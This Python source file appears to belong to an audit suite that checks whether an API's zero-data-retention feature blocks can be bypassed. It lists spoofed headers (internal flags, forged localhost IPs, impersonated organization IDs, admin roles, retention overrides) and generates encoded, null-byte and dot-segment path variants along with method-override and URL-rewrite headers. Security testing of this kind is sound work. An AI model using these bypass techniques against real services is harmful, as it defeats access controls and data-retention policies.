"""Ways round a block, as data: what a client may claim in headers, and how else a path can be written or a request be made."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from typing import Any

from zdr_audit.profile.model import FeatureEndpoint
from zdr_audit.suite.party import Actor
from zdr_audit.target.template import MissingValue, fill_path

# `{control}` stands for the id of the control organization.
CLAIMS: tuple[Mapping[str, str], ...] = (
    {"user-agent": "claude-cli/2.1.330 (external, cli)", "x-app": "cli"},
    {"anthropic-version": "2023-01-01"},
    {"x-internal": "true", "x-internal-request": "1", "x-anthropic-internal": "true"},
    {"anthropic-organization-id": "{control}", "x-organization-id": "{control}", "x-organization-uuid": "{control}"},
    {"x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1", "forwarded": "for=127.0.0.1"},
    {"x-zdr": "off", "x-zero-data-retention": "false", "x-zdr-override": "true", "x-data-retention": "standard"},
    {"x-feature-enabled": "true", "x-policy-limits": '{"allowed":true}', "x-client-policy-checked": "1"},
    {"user-agent": "claude-desktop/1.0", "x-app": "desktop", "anthropic-client-platform": "desktop_app"},
    {"x-admin": "true", "x-role": "admin", "x-user-role": "operator", "x-debug": "1", "x-test": "true"},
)


@dataclass(frozen=True)
class Detour:
    """One way round: `values` are handed to the call (`_path`, `_method`, `_headers`)."""

    name: str
    actor: Actor
    values: dict[str, Any] = field(default_factory=dict)


def detours(endpoint: FeatureEndpoint, known: Mapping[str, Any], actor: Actor) -> list[Detour]:
    """All detours to one endpoint. Path forms go out unnormalised."""
    try:
        path = fill_path(endpoint.path, known)
    except MissingValue:
        return []
    first, last = path.split("/")[1], path.rsplit("/", 1)[-1]
    paths = {
        "trailing slash": f"{path}/",
        "double slash": path.replace("/", "//", 2)[1:],
        "double slash inside": _last(path, f"/{last}"),
        "upper case": path.upper(),
        "capital": _last(path, last.capitalize()),
        "encoded letter": _last(path, f"%{ord(last[0]):02X}{last[1:]}" if last else ""),
        "encoded slash": path[:1] + path[1:].replace("/", "%2F", 1),
        "dot segment": _last(path, f"./{last}"),
        "parent segment": _last(path, f"x/../{last}"),
        "path parameter": f"{path};a=b",
        "matrix before": _last(path, f";/{last}"),
        "query": f"{path}?beta=true&zdr=false",
        "extension": f"{path}.json",
        "encoded end": f"{path}%20",
        "null": f"{path}%00",
        "other version": path.replace("/v1/", "/v2/", 1) if first == "v1" else f"/v1{path}",
        "no version": path.removeprefix("/v1") if first == "v1" else f"/api{path}",
        "beta version": path.replace("/v1/", "/v1beta/", 1) if first == "v1" else f"/beta{path}",
    }
    found = [Detour(name, actor, {"_path": form}) for name, form in paths.items() if form != path and form.startswith("/")]
    for method in ("PUT", "PATCH"):
        found.append(Detour(f"method {method}", actor, {"_method": method}))
    for header in ("x-http-method-override", "x-http-method", "x-method-override"):
        found.append(Detour(f"GET with {header}", actor, {"_method": "GET", "_headers": {header: endpoint.method}}))
        found.append(Detour(f"POST with {header}", actor, {"_headers": {header: "PUT"}}))
    for header in ("x-original-url", "x-rewrite-url", "x-forwarded-prefix"):
        found.append(Detour(header, actor, {"_headers": {header: path}}))
    other = "authorization" if actor.header.lower() != "authorization" else "x-api-key"
    found.append(Detour(f"credential in {other}", replace(actor, header=other)))
    for version in ("2023-01-01", "2026-10-21"):
        found.append(Detour(f"interface version {version}", actor, {"_headers": {"anthropic-version": version}}))
    return found


def _last(path: str, segment: str) -> str:
    return f"{path.rsplit('/', 1)[0]}/{segment}"
